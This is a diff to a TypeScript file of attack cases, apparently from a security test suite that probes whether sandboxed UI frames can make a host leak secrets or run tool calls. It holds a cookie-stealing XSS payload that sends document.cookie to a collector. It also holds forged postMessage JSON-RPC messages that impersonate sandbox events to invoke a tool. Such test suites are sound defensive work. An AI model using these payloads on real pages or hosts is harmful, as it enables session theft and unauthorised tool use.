@@ -1,4 +1,4 @@
-// The older messages, `{type, payload}`, which many hosts obey as they come.
+// The older messages, `{type, payload}`, which many hosts obey without a check.
 import type { Attack } from '../attack.ts';
 import { leak, ofClass } from './define.ts';
 
@@ -16,7 +16,7 @@ const called: NonNullable<Attack['breach']> = ({ calls }) => calls.length > 0;
 const gotSecret: NonNullable<Attack['breach']> = ({ network }) =>
   network.some(({ detail }) => detail.includes('HOST-SECRET'));
 
-/** Markup that tells the collector a cookie of the page it is drawn in. */
+/** Markup that sends a cookie of the page it is drawn in to the collector. */
 const MARKUP = `'<img src="nowhere:" onerror="new Image().src = \\'' + ${leak('markup')} + '?\\' + encodeURIComponent(document.cookie)">'`;
 
 export const ATTACKS: readonly Attack[] = [
@@ -97,7 +97,7 @@ export const ATTACKS: readonly Attack[] = [
       `{ type: 'ui-lifecycle-iframe-ready', method: 'ui/notifications/sandbox-navigated', jsonrpc: '2.0', params: { token: A.token } }`,
       `{ type: 'tool', method: 'ui/notifications/sandbox-proxy-ready', payload: { toolName: 'app_read', params: { token: A.token } } }`,
     ),
-    breach: ({ heardByHost, calls }) => heardByHost.length > 0 || calls.length > 0,
+    breach: ({ receivedByHost, calls }) => receivedByHost.length > 0 || calls.length > 0,
   }),
   attack('l13', 'speaks in the name of another surface', {
     script: post(
@@ -169,7 +169,7 @@ export const ATTACKS: readonly Attack[] = [
           w.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { url: A.page('') } }, '*');
         }
       await A.wait(700);`,
-    breach: ({ calls, heardBySibling }) => calls.length > 0 || heardBySibling.length > 0,
+    breach: ({ calls, receivedBySibling }) => calls.length > 0 || receivedBySibling.length > 0,
   }),
   attack('l19', 'a page by address opens a window, after a click', {
     external: true,
